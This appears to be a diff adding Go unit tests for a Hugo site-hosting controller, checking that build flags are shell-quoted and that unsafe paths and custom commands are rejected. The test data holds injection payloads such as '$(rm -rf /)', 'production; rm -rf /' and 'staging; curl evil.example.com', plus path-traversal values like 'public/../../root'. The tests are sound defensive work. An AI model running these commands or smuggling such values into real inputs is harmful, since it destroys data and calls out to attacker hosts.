@@ -0,0 +1,182 @@
+/*
+Copyright 2023.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package controllers
+
+import (
+	"strings"
+	"testing"
+
+	hugohosterv1beta1 "github.com/cedi/hugo-hoster/api/v1beta1"
+	pageClient "github.com/cedi/hugo-hoster/pkg/client"
+)
+
+func TestShellQuote(t *testing.T) {
+	tests := map[string]string{
+		"":                       "''",
+		"--minify":               "--minify",
+		"docs/public":            "docs/public",
+		"https://cedi.dev/":      "https://cedi.dev/",
+		"$(rm -rf /)":            "'$(rm -rf /)'",
+		"production; rm -rf /":   "'production; rm -rf /'",
+		"it's":                   `'it'\''s'`,
+		"config.toml,extra.toml": "config.toml,extra.toml",
+	}
+
+	for in, want := range tests {
+		if got := shellQuote(in); got != want {
+			t.Errorf("shellQuote(%q) = %s, want %s", in, got, want)
+		}
+	}
+}
+
+func TestBuildScript(t *testing.T) {
+	tests := []struct {
+		name        string
+		build       hugohosterv1beta1.BuildSpec
+		allowUnsafe bool
+		host        string
+		tls         bool
+		wantHugo    string
+		wantUpload  string
+		wantErr     bool
+	}{
+		{
+			name:       "defaults",
+			wantHugo:   "hugo",
+			wantUpload: "aws s3 cp public/ ",
+		},
+		{
+			name: "flags",
+			build: hugohosterv1beta1.BuildSpec{Flags: hugohosterv1beta1.HugoFlagsSpec{
+				Minify:      true,
+				BuildDrafts: true,
+				Environment: "staging; curl evil.example.com",
+				Config:      []string{"config.toml", "staging.toml"},
+				Destination: "out",
+				SourceDir:   "docs",
+			}},
+			wantHugo:   "hugo --source docs --config config.toml,staging.toml --destination out --environment 'staging; curl evil.example.com' --minify --buildDrafts",
+			wantUpload: "aws s3 cp docs/out/ ",
+		},
+		{
+			name:       "inject baseURL",
+			host:       "test.cedi.dev",
+			wantHugo:   "hugo --baseURL http://test.cedi.dev/",
+			wantUpload: "aws s3 cp public/ ",
+		},
+		{
+			name:       "inject baseURL with TLS",
+			host:       "test.cedi.dev",
+			tls:        true,
+			wantHugo:   "hugo --baseURL https://test.cedi.dev/",
+			wantUpload: "aws s3 cp public/ ",
+		},
+		{
+			name:       "inject baseURL disabled",
+			build:      hugohosterv1beta1.BuildSpec{Flags: hugohosterv1beta1.HugoFlagsSpec{InjectBaseURL: ptr(false)}},
+			host:       "test.cedi.dev",
+			wantHugo:   "hugo",
+			wantUpload: "aws s3 cp public/ ",
+		},
+		{
+			name:       "explicit baseURL",
+			build:      hugohosterv1beta1.BuildSpec{Flags: hugohosterv1beta1.HugoFlagsSpec{BaseURL: "https://cedi.dev/blog/"}},
+			host:       "test.cedi.dev",
+			tls:        true,
+			wantHugo:   "hugo --baseURL https://cedi.dev/blog/",
+			wantUpload: "aws s3 cp public/ ",
+		},
+		{
+			name:    "absolute destination",
+			build:   hugohosterv1beta1.BuildSpec{Flags: hugohosterv1beta1.HugoFlagsSpec{Destination: "/etc"}},
+			wantErr: true,
+		},
+		{
+			name:    "destination outside of the repository",
+			build:   hugohosterv1beta1.BuildSpec{Flags: hugohosterv1beta1.HugoFlagsSpec{Destination: "public/../../root", SourceDir: "docs"}},
+			wantErr: true,
+		},
+		{
+			name:    "source outside of the repository",
+			build:   hugohosterv1beta1.BuildSpec{Flags: hugohosterv1beta1.HugoFlagsSpec{SourceDir: ".."}},
+			wantErr: true,
+		},
+		{
+			name:       "nested destination",
+			build:      hugohosterv1beta1.BuildSpec{Flags: hugohosterv1beta1.HugoFlagsSpec{Destination: "build/site..v2"}},
+			wantHugo:   "hugo --destination build/site..v2",
+			wantUpload: "aws s3 cp build/site..v2/ ",
+		},
+		{
+			name:    "command without allow flag",
+			build:   hugohosterv1beta1.BuildSpec{Command: "hugo --minify && npm run index"},
+			wantErr: true,
+		},
+		{
+			name:        "command with allow flag",
+			build:       hugohosterv1beta1.BuildSpec{Command: "hugo --minify && npm run index", Flags: hugohosterv1beta1.HugoFlagsSpec{Destination: "out"}},
+			allowUnsafe: true,
+			wantHugo:    "hugo --minify && npm run index",
+			wantUpload:  "aws s3 cp public/ ",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			page := &hugohosterv1beta1.HugoPage{Spec: hugohosterv1beta1.HugoPageSpec{
+				Build:   tt.build,
+				Routing: hugohosterv1beta1.RoutingSpec{Host: tt.host},
+			}}
+			settings := &pageClient.ResolvedSetting{Kind: hugohosterv1beta1.SettingKind, Name: "settings"}
+			settings.Spec.AllowUnsafeBuildCommand = tt.allowUnsafe
+			settings.Spec.Routing.TLS.Enabled = tt.tls
+
+			script, err := buildScript(page, settings)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("unexpected error %v", err)
+			}
+
+			if tt.wantErr {
+				return
+			}
+
+			// the upload follows the hugo invocation
+			lines := strings.Split(script, "\n")
+			upload := len(lines) - 1
+			for upload > 0 && !strings.HasPrefix(lines[upload], "aws s3 cp ") {
+				upload--
+			}
+
+			hugo := upload - 1
+			for hugo > 0 && strings.HasPrefix(lines[hugo], "phase ") {
+				hugo--
+			}
+
+			if got := lines[hugo]; got != tt.wantHugo {
+				t.Errorf("want hugo invocation %q, got %q", tt.wantHugo, got)
+			}
+
+			if got := lines[upload]; !strings.HasPrefix(got, tt.wantUpload) {
+				t.Errorf("want upload %q, got %q", tt.wantUpload, got)
+			}
+		})
+	}
+}
+
+func ptr[T any](v T) *T {
+	return &v
+}